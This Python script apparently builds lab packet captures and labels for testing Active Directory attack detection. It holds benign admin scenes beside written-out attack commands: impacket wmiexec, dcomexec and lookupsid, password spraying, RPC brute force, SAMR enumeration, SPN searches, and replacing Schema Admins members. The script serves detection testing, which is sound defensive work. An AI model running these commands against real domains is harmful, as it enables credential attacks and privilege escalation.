#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""variations.py - captures of attacks that are done otherwise than in the labelled ones, and of ordinary work beside them.

    variations.py --out DIRECTORY [--only PATTERN]

Writes NAME.pcap of each scene below, as dc1's port had it, what the tools said in NAME.txt, and `labels.tsv`, so that
tests/integration/detection_results.py judges what is raised about them. Those that found something wrong are in tests/data.
"""
import argparse
import os
import re
import sys
import time

import lab
import sealed
from scenes import ADMIN, DADMIN, Scene

COLUMNS = ("file", "class", "technique", "start", "end", "actor_ip", "victim", "account", "description")
USER = "-U'CORP\\user01%User.Pass01!'"


def benign():
    yield "n24_admin_group_rpc", "group-change", ADMIN, "an administrator changes a group through SAMR", (
        "net rpc group addmem VPN-Users user45 -S $DC -U$ADMIN; net rpc group delmem VPN-Users user45 -S $DC -U$ADMIN")
    yield "n25_admin_net_rpc", "RPC-admin", ADMIN, "and lists accounts from there", (
        "net rpc info -S $DC -U$ADMIN; net rpc user -S $DC -U$ADMIN; net rpc group members 'Domain Admins' -S $DC -U$ADMIN")
    yield "n26_address_book", "LDAP-search", "user01", "a mail client looks people up", (
        "for i in 1 2 3 4 5; do as_user01 \"(anr=use$i)\" mail telephoneNumber; done")
    yield "n27_services_listed", "RPC-admin", ADMIN, "services and shares are listed", (
        "net rpc share list -S $DC -U$ADMIN; net rpc service list -S $DC -U$ADMIN")
    yield "n28_old_password", "NTLM-failed", "svc_backup", "a service has an old password", (
        "for i in 1 2 3 4 5; do smbclient -U 'CORP\\svc_backup%Old.Pass1' //$DC/netlogon -c ls; done")


def attacks():
    admin = "CORP/%s:%s@$DC" % (ADMIN, lab.PASSWORD)
    yield "a62_wmiexec", "remote-execution", ADMIN, "wmiexec: the controller refuses DCOM", (
        "impacket wmiexec %s whoami" % admin)
    yield "a63_dcomexec", "remote-execution", DADMIN, "dcomexec by MMC20.Application: likewise", (
        "impacket dcomexec -object MMC20 CORP/dadmin:'Dadmin.Pass1!'@$DC whoami")
    yield "a64_lookupsid", "RID-cycling", "user01", "RIDs 0 to 300 through LSARPC", (
        "impacket lookupsid CORP/user01:'User.Pass01!'@$DC 300")
    yield "a65_guesses_by_rpc", "brute-force", "user32", "wrong passwords by NTLM over RPC on TCP", (
        "for i in $(seq 12); do rpcclient -U \"CORP\\\\user32%bad$i\" \"ncacn_ip_tcp:$DC[sign]\" -c enumdomains; done")
    yield "a66_rids_opened", "SAMR-enumeration", "user01", "accounts are opened one by one, on one connection", (
        "rpcclient %s $DC -c \"$(for r in $(seq 1100 1170); do echo \"queryuser $r;\"; done)\"" % USER)
    yield "a67_names_looked_up", "SAMR-enumeration", "user01", "names are guessed through SAMR", (
        "rpcclient %s $DC -c \"$(for i in $(seq -f adm%%02g 1 90); do echo \"samlookupnames domain $i;\"; done)\"" % USER)
    yield "a68_samr_tcp", "SAMR-enumeration", "user01", "SAMR over TCP, sealed", (
        "rpcclient %s \"ncacn_ip_tcp:$DC[seal]\" -c 'enumdomusers; enumdomgroups'" % USER)
    yield "a69_spray_ntlm_slow", "password-spray", "user01-20", "one password against 20 accounts by NTLM, one a second", (
        "for i in $(seq -w 1 20); do smbclient -U \"CORP\\\\user$i%Winter.24\" //$DC/netlogon -c ls; sleep 1; done")
    yield "a70_ldap_spn", "LDAP-recon", "user01", "one search for accounts with service principals", (
        "as_user01 '(&(samAccountType=805306368)(servicePrincipalName=*)(!(samAccountName=krbtgt)))' servicePrincipalName")
    yield "a71_group_replaced", "privileged-group-change", DADMIN, "the members of a group are replaced as a whole", (
        "for u in user33 Administrator,CN=Users; do printf 'dn: CN=Schema Admins,CN=Users,%s\\nchangetype: modify\\nreplace: "
        "member\\nmember: CN=%s,%s\\n' $DN $u,OU=Staff $DN | sed 's/,CN=Users,OU=Staff/,CN=Users/' | as_dadmin; done")


def everything():
    for host, kind, part in (("client", "benign", benign()), ("attacker", "attack", attacks())):
        for name, technique, account, description, script in part:
            yield Scene(name, host, [account], script), kind, technique, description


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--out", required=True)
    parser.add_argument("--only", default="")
    args = parser.parse_args()
    lab.enter()
    out = os.path.abspath(args.out)
    os.makedirs(out, exist_ok=True)
    with lab.Lab() as l, open(os.path.join(out, "labels.tsv"), "w", encoding="utf-8") as labels:
        print(*COLUMNS, sep="\t", file=labels)
        for scene, kind, technique, description in everything():
            if not re.search(args.only, scene.name):
                continue
            start = time.time()
            size = sealed.capture(l, scene, out)
            print(scene.name, kind, technique, "%.6f" % start, "%.6f" % time.time(), l.net.address(scene.host), l.dc1.address,
                  ",".join(scene.accounts), description, sep="\t", file=labels)
            print("%-28s %7d bytes" % (scene.name, size), flush=True)


if __name__ == "__main__":
    sys.exit(main())
